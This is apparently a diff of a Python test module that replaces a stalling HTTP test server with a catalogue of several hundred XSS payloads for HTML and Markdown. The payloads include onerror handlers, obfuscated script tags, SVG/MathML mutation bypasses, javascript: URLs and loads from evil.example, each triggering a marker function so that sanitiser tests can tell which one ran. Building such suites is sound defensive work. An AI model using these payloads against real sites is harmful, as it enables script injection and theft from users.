@@ -1,164 +1,275 @@
-"""A server that never comes to an end: each path names the way in which it holds those who ask."""
+"""What strangers write to have their code run: HTML and Markdown in which RUN stands for a script.
+
+Most of it is known from the cheat sheets and test suites of sanitisers, DOMPurify's above all; each kind once or more.
+"""
 
 from __future__ import annotations
 
-import gzip
-import socket
-import ssl
-import time
-from collections.abc import Iterator
-from contextlib import suppress
-from pathlib import Path
-from threading import Event, Thread
-from types import TracebackType
-from typing import Self
+RUN = "hit(N)"
+"""The script; N is the number of the payload, so that a test can say which one ran."""
 
-_OK = b"HTTP/1.1 200 OK\r\n"
-_GZIPPED = _OK + b"Content-Encoding: gzip\r\n\r\n"
-_CHUNKED = _OK + b"Transfer-Encoding: chunked\r\n\r\n"
-_NAMED = b"\x1f\x8b\x08\x08\0\0\0\0\0\xff"  # the head of a gzip member that has a file name, which ends with a zero
-_EMPTY = gzip.compress(b"")
+ATTRIBUTES = [
+    "<img src=//e.example/x onerror=RUN>",
+    "<IMG SRC=x OnErRoR=RUN>",
+    '<img src="//e.example/x"onerror="RUN"alt="y">',
+    "<img/src=//e.example/x/onerror=RUN>",
+    "<img\tsrc=//e.example/x\fonerror=RUN>",
+    "<img src=//e.example/x onerror\n=\nRUN>",
+    "<img src=`//e.example/x`onerror=RUN>",
+    "<img src='//e.example/x' title='a' onerror='RUN'>",
+    '<img alt="x><script>RUN</script>" src="https://pictures.example/e">',
+    '<img alt="x><img src=//e.example/x onerror=RUN>">',
+    "<img alt='\"><script>RUN</script>' src='data:x'>",
+    '<img alt="</title></textarea></style></script><script>RUN</script>" src=//e.example/x>',
+    '<p title="--><script>RUN</script>">a</p>',
+    '<a title="&quot;&gt;&lt;script&gt;RUN&lt;/script&gt;" href="https://e.example/">a</a>',
+    '<a title="&amp;quot; onmouseover=RUN x=&amp;quot;" href="#">a</a>',
+    f"<p {'a' * 5_000}=1 onclick=RUN>a</p>",
+    f'<p title="{"x" * 70_000}" onclick=RUN>a</p>',
+    f"<img {' '.join(f'a{number}=1' for number in range(400))} src=//e.example/x onerror=RUN>",
+    "<p onclick=RUN onfocus=RUN tabindex=1 autofocus contenteditable>a</p>",
+    '<div class="x" id="y" onpointerenter=RUN style="position:fixed;inset:0">a</div>',
+    "<p data-x='\"><script>RUN</script>'>a</p>",
+    '<td background="javascript:RUN">a</td>',
+    "<ol start='1\" onfocus=RUN autofocus tabindex=0 x=\"'><li value='\" onclick=RUN'>a</ol>",
+    "<a hreflang='\"><img src=//e.example/x onerror=RUN>' href=x>a</a>",
+    "<p lang='\" onclick=RUN \"' dir='\"><script>RUN</script>'>a</p>",
+]
+EVENTS = [
+    "<body onload=RUN>a",
+    "<input autofocus onfocus=RUN>",
+    "<select autofocus onfocus=RUN><option>a</select>",
+    "<textarea autofocus onfocus=RUN>a</textarea>",
+    "<details open ontoggle=RUN><summary>a</summary></details>",
+    "<video src=//e.example/x onerror=RUN></video>",
+    "<video><source src=//e.example/x onerror=RUN></video>",
+    "<audio src=//e.example/x onerror=RUN controls></audio>",
+    "<video poster=//e.example/x onloadstart=RUN src=//e.example/y></video>",
+    "<marquee onstart=RUN>a</marquee>",
+    "<style>@keyframes x{}</style><b style='animation-name:x;animation-duration:1ms' onanimationstart=RUN>a</b>",
+    "<b style='transition:outline 1ms' ontransitionend=RUN tabindex=1 autofocus>a</b>",
+    "<picture><source srcset=x onerror=RUN><img src=//e.example/x onerror=RUN></picture>",
+    "<dialog open onclose=RUN oncancel=RUN>a</dialog>",
+    "<table><tr><td onmouseover=RUN>a</td></tr></table>",
+    "<x-y onclick=RUN oncontentvisibilityautostatechange=RUN style=display:block;content-visibility:auto>a</x-y>",
+]
+SCRIPTS = [
+    "<script>RUN</script>",
+    "<SCRIPT>RUN</SCRIPT>",
+    "<script src=https://evil.example/x.js></script>",
+    "<script src=//evil.example/x.js></script>",
+    "<script type=module>RUN</script>",
+    "<script>RUN",
+    "<script\n>RUN</script\n>",
+    "<script/x>RUN</script/x>",
+    "<scr<script>ipt>RUN</scr</script>ipt>",
+    "<<script>RUN;//<</script>",
+    "<script>RUN</script ",
+    "<script>/*</script><script>*/RUN</script>",
+    "<scr\0ipt>RUN</scr\0ipt>",
+    "<script\0>RUN</script>",
+    "\0<script>RUN</script>",
+    "<ſcript>RUN</ſcript>",
+    "＜script＞RUN＜/script＞",
+    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
+    "\x1b$B<script>RUN</script>",
+    "<script x='</script>'>RUN</script>",
+    "</p></div></article></main><script>RUN</script>",
+    "</body></html><script>RUN</script>",
+    "]]><script>RUN</script>",
+    "{{constructor.constructor('RUN')()}}",
+    "${RUN}",
+    "'-RUN-'",
+    '";RUN;//',
+    "</script><script>RUN</script>",
+    "&lt;script&gt;RUN&lt;/script&gt;",
+    "&#60;script&#62;RUN&#60;/script&#62;",
+    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
+    "%3Cscript%3ERUN%3C/script%3E",
+]
+FOREIGN = [
+    "<svg onload=RUN>",
+    "<svg/onload=RUN//",
+    "<svg><script>RUN</script></svg>",
+    "<svg><script>&#104;it(N)</script></svg>",
+    "<svg><script href='data:text/javascript,RUN'/></svg>",
+    "<svg><a xlink:href='javascript:RUN'><text y=20>a</text></a></svg>",
+    "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
+    "<svg><set onbegin=RUN attributeName=x to=1></svg>",
+    "<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>a</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=RUN />#x'/></svg>",
+    "<svg><foreignObject><img src=//e.example/x onerror=RUN></foreignObject></svg>",
+    "<svg><desc><script>RUN</script></desc></svg>",
+    "<svg><title><style></title><img src=//e.example/x onerror=RUN></style></svg>",
+    "<svg><style><img src=//e.example/x onerror=RUN></style></svg>",
+    "<svg></p><style><a title='</style><img src=//e.example/x onerror=RUN>'>",
+    "<svg><p><style><!--</style><img src=//e.example/x title='--><img src=//e.example/x onerror=RUN>'></svg>",
+    "<math><mtext></mtext><mglyph><style><img src=//e.example/x onerror=RUN></style></mglyph></math>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=//e.example/x onerror=RUN&gt;'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=//e.example/x onerror=RUN>",
+    "<math><annotation-xml encoding='text/html'><style><img src=//e.example/x onerror=RUN></style></annotation-xml></math>",
+    "<math><mi><table><mi><style><a title='</style><img src=//e.example/x onerror=RUN>'>",
+    "<math href='javascript:RUN'>a</math>",
+    "<math><maction actiontype='statusline#x' xlink:href='javascript:RUN'>a</maction></math>",
+    "<math><a xlink:href='javascript:RUN' href='javascript:RUN'>a</a></math>",
+]
+RAW_TEXT = [
+    "<noscript><p title='</noscript><img src=//e.example/x onerror=RUN>'></noscript>",
+    "<noscript><style></noscript><img src=//e.example/x onerror=RUN></style>",
+    "<textarea><p title='</textarea><img src=//e.example/x onerror=RUN>'></textarea>",
+    "<title><p title='</title><img src=//e.example/x onerror=RUN>'></title>",
+    "<xmp><p title='</xmp><img src=//e.example/x onerror=RUN>'></xmp>",
+    "<style><p title='</style><img src=//e.example/x onerror=RUN>'></style>",
+    "<noembed><p title='</noembed><img src=//e.example/x onerror=RUN>'></noembed>",
+    "<noframes><p title='</noframes><img src=//e.example/x onerror=RUN>'></noframes>",
+    "<iframe><p title='</iframe><img src=//e.example/x onerror=RUN>'></iframe>",
+    "<plaintext><img src=//e.example/x onerror=RUN>",
+    "<listing>&lt;img src=//e.example/x onerror=RUN&gt;</listing>",
+    "<pre>\n\n<script>RUN</script></pre>",
+    "<select><style><img src=//e.example/x onerror=RUN></style></select>",
+    "<select><option><p><script>RUN</script></option></select>",
+    "<select><template><img src=//e.example/x onerror=RUN></template></select>",
+    "<template><script>RUN</script></template>",
+    "<template shadowrootmode=open><img src=//e.example/x onerror=RUN></template>",
+    "<table><style><a title='</style></table><img src=//e.example/x onerror=RUN>'></a></style></table>",
+    "<table><caption><svg><title><table><style><img src=//e.example/x onerror=RUN></style></table></title></svg></caption></table>",
+    "<a><table><a><svg><style><a id='</style><img src=//e.example/x onerror=RUN>'>",
+    "<b><p></b><i><a title='</i><img src=//e.example/x onerror=RUN>'>",
+    "<p><table><p title='<img src=//e.example/x onerror=RUN>'><table>",
+    "<ul><li><dl><dt><li><h1><h2><button><script>RUN</script>",
+    "<!--><script>RUN</script>-->",
+    "<!---><script>RUN</script>-->",
+    "<!-- --!><script>RUN</script> -->",
+    "<!-- <!-- --><img src=//e.example/x onerror=RUN> -->",
+    "<!-- a -- b ><img src=//e.example/x onerror=RUN>",
+    "<!-- never closed <script>RUN</script>",
+    "<![CDATA[><img src=//e.example/x onerror=RUN>]]>",
+    "<svg><![CDATA[</svg><img src=//e.example/x onerror=RUN>]]></svg>",
+    "<!x><img src=//e.example/x onerror=RUN>",
+    "<!DOCTYPE html [<!ENTITY x '<script>RUN</script>'>]>&x;",
+    "<?xml version='1.0'?><?x ><img src=//e.example/x onerror=RUN>?>",
+    "<?php <img src=//e.example/x onerror=RUN> ?>",
+    "</ ><img src=//e.example/x onerror=RUN>",
+    "<%<img src=//e.example/x onerror=RUN>%>",
+    "<comment><img src='</comment><img src=//e.example/x onerror=RUN>'></comment>",
+]
+EMBEDDED = [
+    "<iframe src='javascript:parent.RUN'></iframe>",
+    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
+    "<iframe src='data:text/html,<script>parent.RUN</script>'></iframe>",
+    "<iframe src='https://evil.example/'></iframe>",
+    "<frameset onload=RUN><frame src='javascript:RUN'></frameset>",
+    "<object data='javascript:RUN'></object>",
+    "<object data='data:text/html,<script>parent.RUN</script>' type=text/html></object>",
+    "<object><param name=x value=y><img src=//e.example/x onerror=RUN></object>",
+    "<embed src='javascript:RUN'>",
+    "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=RUN />' type=image/svg+xml>",
+    "<applet code=x onerror=RUN></applet>",
+    "<portal src='https://evil.example/'></portal>",
+    "<fencedframe src='https://evil.example/'></fencedframe>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<meta http-equiv=refresh content='0;javascript:RUN'>",
+    "<meta charset=utf-7>",
+    "<base href='https://evil.example/'><script src=x.js></script>",
+    "<base target='x'><base href='javascript:RUN//'><a href='.'>a</a>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<link rel=modulepreload href='https://evil.example/x.js'>",
+    "<link rel=prefetch href='https://evil.example/'>",
+    "<link rel=import href='data:text/html,<script>RUN</script>'>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>*{background:url(https://evil.example/x);animation:x 1s}</style>",
+    "<p style='background:url(https://evil.example/x)'>a</p>",
+    "<p style='width:expression(RUN);behavior:url(x.htc);-moz-binding:url(x)'>a</p>",
+    "<form action='javascript:RUN'><button autofocus>a</button></form>",
+    "<form><button formaction='javascript:RUN'>a</button></form>",
+    "<form id=x></form><button form=x formaction='javascript:RUN' type=submit>a</button>",
+    "<input type=image src=//e.example/x onerror=RUN formaction='javascript:RUN'>",
+    "<isindex type=image src=//e.example/y onerror=RUN>",
+    "<form id=hit><input name=hit></form><a id=location name=location href='javascript:RUN'>a</a>",
+    "<img name=currentScript><img name=getElementById><a id=defaultView name=body>a</a>",
+    "<form name=body><input name=parentNode><input name=attributes></form>",
+]
+ADDRESSES = [
+    "<a href='javascript:RUN'>a</a>",
+    "<a href='JaVaScRiPt:RUN'>a</a>",
+    "<a href=' &#14; javascript:RUN'>a</a>",
+    "<a href='java\tscript:RUN'>a</a>",
+    "<a href='java&#10;script&#58;RUN'>a</a>",
+    "<a href='java&Tab;script&colon;RUN'>a</a>",
+    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3ARUN'>a</a>",
+    "<a href='\x01javascript:RUN'>a</a>",
+    "<a href='javascript\u200b:RUN'>a</a>",
+    "<a href='javascript://example.org/%0aRUN'>a</a>",
+    "<a href='https:javascript:RUN'>a</a>",
+    "<a href='//evil.example\\@x' ping='https://evil.example/ping'>a</a>",
+    "<a href='vbscript:RUN'>a</a>",
+    "<a href='livescript:RUN'>a</a>",
+    "<a href='data:text/html,<script>RUN</script>'>a</a>",
+    "<a href='blob:https://example.org/x'>a</a>",
+    "<a href='view-source:javascript:RUN'>a</a>",
+    "<a xlink:href='javascript:RUN' ping='javascript:RUN' href='x'>a</a>",
+    "<area href='javascript:RUN' shape=default><map name=x><area href='javascript:RUN'></map>",
+    "<img src='javascript:RUN'>",
+    "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RUN%22/>'>",
+    "<img srcset='javascript:RUN, x 2x' lowsrc='javascript:RUN' dynsrc='javascript:RUN' longdesc='javascript:RUN'>",
+    "<video src='javascript:RUN' poster='javascript:RUN'></video>",
+    "<source src='javascript:RUN'>",
+    "<q cite='javascript:RUN'>a</q>",
+    "<blockquote cite='data:text/html,<script>RUN</script>'>a</blockquote>",
+    "<q cite='java&#10;script:RUN'>a</q>",
+    "<ins cite='javascript:RUN'>a</ins><del cite='javascript:RUN'>b</del>",
+    "<body background='javascript:RUN'>a</body>",
+    "<a href='intent://x#Intent;scheme=javascript;end'>a</a>",
+    "<a href='https://feeds.example.org/news/javascript:RUN'>a</a>",
+]
+MARKDOWN = [
+    "[a](javascript:RUN)",
+    "[a](JavaScript:RUN)",
+    "[a](java&#10;script:RUN)",
+    "[a](<java script:RUN>)",
+    "[a](javascript&colon;RUN)",
+    "[a](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KDEpPC9zY3JpcHQ+)",
+    "[a](\\javascript:RUN)",
+    '[a](x "\\"><script>RUN</script>")',
+    "[a](x 'a\" onmouseover=\"RUN')",
+    '[a](<x" onclick="RUN>)',
+    "![a](javascript:RUN)",
+    '![" onerror="RUN](//e.example/x)',
+    '![a](//e.example/x "onerror=RUN")',
+    "![<script>RUN</script>](//e.example/x)",
+    '![![a](//e.example/x"onerror=RUN)](//e.example/y)',
+    "<javascript:RUN>",
+    '<https://e.example/"onmouseover=RUN>',
+    "<RUN@example.org>",
+    "[a]: javascript:RUN\n\n[a]",
+    "[a]: x '\"><img src=//e.example/x onerror=RUN>'\n\n[a]",
+    "[<img src=//e.example/x onerror=RUN>]: x\n\n[<img src=//e.example/x onerror=RUN>]",
+    '```"><img src=//e.example/x onerror=RUN>\na\n```',
+    "```\n</code></pre><script>RUN</script>\n```",
+    "    </code></pre><script>RUN</script>",
+    "`</code><script>RUN</script>`",
+    "``<img src=//e.example/x onerror=RUN>``",
+    "a <b\n\nonmouseover=RUN>b</b>",
+    "<div>\n\n*<script>RUN</script>*\n\n</div>",
+    "<script>\n\nRUN\n\n</script>",
+    "<style>\n\n</style><img src=//e.example/x onerror=RUN>\n\n</style>",
+    "| a |\n|---|\n| <img src=//e.example/x onerror=RUN> |",
+    "|<script>|RUN|\n|:-:|:-:|\n|</script>|b|",
+    "> <svg>\n> <style>\n\n<img src=//e.example/x onerror=RUN>",
+    "# <img src=//e.example/x onerror=RUN>",
+    "- <a href='\n  javascript:RUN'>a</a>",
+    "\\<script>RUN\\</script>",
+    "*a<img src=//e.example/x onerror=RUN*>b*",
+    "&#x3C;img src=//e.example/x onerror=RUN&#x3E;",
+    "[a](&#x6a;avascript:RUN) [b](&#0;javascript:RUN)",
+    "<a href='&NewLine;javascript:RUN'\n>a</a>",
+]
+ALL = [*ATTRIBUTES, *EVENTS, *SCRIPTS, *FOREIGN, *RAW_TEXT, *EMBEDDED, *ADDRESSES, *MARKDOWN]
 
-# What is sent at once, and what is sent again and again after that.
-HEADS: dict[str, tuple[bytes, bytes]] = {
-    "silence": (b"", b""),
-    "status-line": (b"HTTP/1.1 200 O", b"K"),
-    "header": (_OK + b"X-Long: ", b"a"),
-    "header-lines": (_OK, b"X-Many: a\r\n"),
-    "informational": (b"", b"HTTP/1.1 100 Continue\r\n\r\n"),
-    "redirects": (b"", b""),  # see _answer
-}
-"""Those that hold who reads the status and the headers."""
-BODIES: dict[str, tuple[bytes, bytes]] = {
-    "body": (_OK + b"Content-Length: 1000000\r\n\r\n", b"a"),
-    "body-without-length": (_OK + b"\r\n", b"a"),
-    "gzip-name": (_GZIPPED + _NAMED, b"a"),
-    "gzip-members": (_GZIPPED, _EMPTY),
-    "chunks": (_CHUNKED, b"1\r\na\r\n"),
-    "chunk-extension": (_CHUNKED + b"5;", b"a"),
-    "chunk-trailers": (_CHUNKED + b"1\r\na\r\n0\r\n", b"X-Many: a\r\n"),
-}
-"""Those that hold who reads the body."""
-_ALL = HEADS | BODIES
-_TLS_RECORD = (b"\x16\x03\x03\x40\x00", b"\0")
-_AT_ONCE = 64 * 1024
+FORMS = ["{}", "A {} b", "<div>\n{}\n</div>", "- {}", "| a |\n|---|\n| {} |", "<p title='a'>{}"]
+"""Where in a Markdown text a payload stands."""
 
 
-class Hostile:
-    """Sends one more piece every `pause` seconds, or as fast as it can without one.
-
-    It gives up after `lasting` seconds, so that a test fails, and does not hang, where a client has no deadline. With
-    `certificate`, whose key lies beside it, it speaks TLS.
-    """
-
-    def __init__(self, *, pause: float = 0.05, lasting: float = 8, certificate: Path | None = None) -> None:
-        self.pause = pause
-        self.lasting = lasting
-        self.connections = 0
-        self._tls: ssl.SSLContext | None = None
-        if certificate:
-            self._tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-            self._tls.load_cert_chain(certificate, certificate.with_suffix(".key"))
-        self._over = Event()
-        self._listening = socket.create_server(("127.0.0.1", 0), backlog=64)
-
-    @property
-    def url(self) -> str:
-        """The address of all of it, with a slash at its end."""
-        return f"http{'s' if self._tls else ''}://127.0.0.1:{self._listening.getsockname()[1]}/"
-
-    def __enter__(self) -> Self:
-        Thread(target=self._serve, daemon=True).start()
-        return self
-
-    def __exit__(
-        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
-    ) -> None:
-        self._over.set()
-        with suppress(OSError):
-            self._listening.shutdown(socket.SHUT_RDWR)
-        self._listening.close()
-
-    def _serve(self) -> None:
-        with suppress(OSError):  # it is closed
-            while True:
-                connection, _ = self._listening.accept()
-                self.connections += 1
-                Thread(target=self._hold, args=(connection,), daemon=True).start()
-
-    def _hold(self, bare: socket.socket) -> None:
-        # Who asked may have gone.
-        with suppress(OSError), bare, self._secured(bare) as connection:
-            self._answer(connection, connection.recv(_AT_ONCE))
-
-    def _secured(self, bare: socket.socket) -> socket.socket:
-        return self._tls.wrap_socket(bare, server_side=True) if self._tls else bare
-
-    def _answer(self, connection: socket.socket, asked: bytes) -> None:
-        path = asked.split(b" ")[1].decode("ascii").rpartition("/")[2] if b" HTTP/1" in asked else ""
-        name = path.partition("?")[0]
-        if name == "redirects":
-            self._over.wait(8 * self.pause)
-            connection.sendall(f"HTTP/1.1 307 On\r\nLocation: /{path}?\r\nContent-Length: 0\r\n\r\n".encode())
-            return
-        if asked.startswith(b"CONNECT"):
-            name = "header-lines"
-        first, then = _TLS_RECORD if asked[:1] == b"\x16" else _ALL.get(name, (b"", b""))
-        connection.sendall(first)
-        for piece in self._pieces(then):
-            connection.sendall(piece)
-
-    def _pieces(self, piece: bytes) -> Iterator[bytes]:
-        if not self.pause:
-            piece *= _AT_ONCE // max(1, len(piece))
-        until = time.monotonic() + self.lasting
-        while time.monotonic() < until and not self._over.wait(self.pause):
-            yield piece
-
-
-class Tunnel:
-    """A proxy for https, which speaks TLS itself with those who begin so."""
-
-    def __init__(self, certificate: Path) -> None:
-        self._tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-        self._tls.load_cert_chain(certificate, certificate.with_suffix(".key"))
-        self._listening = socket.create_server(("127.0.0.1", 0))
-
-    @property
-    def url(self) -> str:
-        """Its address by http."""
-        return f"http://127.0.0.1:{self._listening.getsockname()[1]}/"
-
-    def __enter__(self) -> Self:
-        Thread(target=self._serve, daemon=True).start()
-        return self
-
-    def __exit__(self, *_: object) -> None:
-        with suppress(OSError):
-            self._listening.shutdown(socket.SHUT_RDWR)
-        self._listening.close()
-
-    def _serve(self) -> None:
-        with suppress(OSError):  # it is closed
-            while True:
-                connection, _ = self._listening.accept()
-                Thread(target=self._tunnel, args=(connection,), daemon=True).start()
-
-    def _tunnel(self, bare: socket.socket) -> None:
-        is_tls = bare.recv(1, socket.MSG_PEEK) == b"\x16"
-        with bare, self._tls.wrap_socket(bare, server_side=True) if is_tls else bare as connection:
-            _, address, _ = connection.recv(4096).split(b" ", 2)
-            host, _, port = address.decode().partition(":")
-            with socket.create_connection((host, int(port))) as server:
-                connection.sendall(b"HTTP/1.1 200 Connected\r\n\r\n")
-                back = Thread(target=_hand_on, args=(server, connection))
-                back.start()
-                _hand_on(connection, server)
-                back.join()
-
-
-def _hand_on(source: socket.socket, target: socket.socket) -> None:
-    with suppress(OSError):
-        while piece := source.recv(4096):
-            target.sendall(piece)
-        target.shutdown(socket.SHUT_RDWR)
+def payloads() -> list[str]:
+    """Every payload, each of which calls the function `hit` of the page with its own number."""
+    return [payload.replace("RUN", RUN).replace("(N)", f"({number})") for number, payload in enumerate(ALL)]
